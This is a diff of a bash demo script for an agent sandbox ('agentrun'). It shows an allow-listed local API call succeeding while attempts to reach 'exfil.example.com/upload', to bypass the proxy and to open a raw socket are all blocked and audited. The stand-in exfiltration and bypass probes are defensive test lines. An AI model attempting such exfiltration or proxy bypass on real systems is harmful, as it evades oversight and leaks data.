@@ -1,19 +1,39 @@
 #!/usr/bin/env bash
-# The main job: install, build, and run a command in the sandbox with the shipped
-# offline profile: it shows who the command runs as, what it is left with, and a
-# few things it cannot do. Then the triage profile rendered as docker commands.
+# The main job: install, build, and run an agent in the sandbox with an allow-list.
+# A local origin stands in for the API the agent needs (on the host's 127.0.0.2, which the
+# policy lets the proxy dial); the "agent" reaches it through the proxy, is refused a host
+# that is not on the list (with the reason), cannot go around the proxy, and the audit
+# summary of what it tried is printed. Then the same policy rendered as docker commands.
+# Needs root (the sandbox's network namespaces); all traffic stays on this machine.
 set -euo pipefail
 cd "$(dirname "$0")/.."
-scripts/install-deps.sh
-scripts/build.sh
+[ "${AR_DEMO_NO_INSTALL:-0}" = 1 ] || scripts/install-deps.sh
+[ "${AR_DEMO_NO_INSTALL:-0}" = 1 ] || scripts/build.sh
+A=./build/agentrun
+tmp=$(mktemp -d /tmp/agentrun-demo.XXXXXX)
+mkdir -m 755 "$tmp/www"
+echo '{"status": "ok", "pods": 3}' >"$tmp/www/status.json"
+port=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.2",0)); print(s.getsockname()[1])')
+python3 -m http.server "$port" --bind 127.0.0.2 --directory "$tmp/www" >/dev/null 2>&1 &
+origin=$!
+trap 'kill $origin; rm -rf "$tmp"' EXIT
+for _ in $(seq 1 50); do (exec 3<>"/dev/tcp/127.0.0.2/$port") 2>/dev/null && break; sleep 0.1; done
+cat >"$tmp/policy.json" <<JSON
+{"name": "demo-agent", "image": "python:3.12-slim", "allowed_hosts": ["127.0.0.2:$port"],
+ "proxy": {"allow_private": ["127.0.0.2"]}, "user": "1000"}
+JSON
+echo "== the agent, sandboxed, allowed: 127.0.0.2:$port (a local API)"
 # shellcheck disable=SC2016 # the shell inside the sandbox expands them
-./build/agentrun --policy profiles/offline.json -- sh -c '
-	id
-	echo "hostname: $(hostname)"
-	grep -E "^(CapEff|CapBnd|NoNewPrivs|Seccomp):" /proc/self/status
-	echo "network interfaces: $(ls /sys/class/net)"
-	echo "home directories visible: [$(ls -A /home 2>/dev/null)]"
-	touch /etc/agentrun-demo 2>&1 || true
-	echo "scratch works" >/tmp/demo && cat /tmp/demo
-	unshare -r true 2>&1 || true'
-./build/agentrun render --policy profiles/triage.json -- python3 agent.py
+"$A" --policy "$tmp/policy.json" --audit "$tmp/audit.jsonl" --proxy-log "$tmp/proxy.log" -- sh -c '
+	port=$1
+	echo "$(id -un 2>/dev/null || id -u) on $(hostname), proxy $HTTPS_PROXY"
+	echo "network: $(ls /sys/class/net | tr "\n" " ")"
+	echo "allowed API:   $(curl -sS -m 5 "http://127.0.0.2:$port/status.json")"
+	echo "denied host:   $(curl -sS -m 5 http://exfil.example.com/upload)"
+	echo "bypass:        $(curl -sS -m 5 --noproxy "*" -o /dev/null "http://127.0.0.2:$port/" 2>&1)"
+	echo "raw socket:    $(python3 -c "import socket; s = socket.socket(); s.connect((\"10.254.255.1\", 443))" 2>&1 | tail -n 1)"
+' _ "$port"
+echo "== the audit"
+"$A" audit "$tmp/audit.jsonl"
+echo "== the same policy for docker"
+"$A" render --policy "$tmp/policy.json" -- python3 agent.py
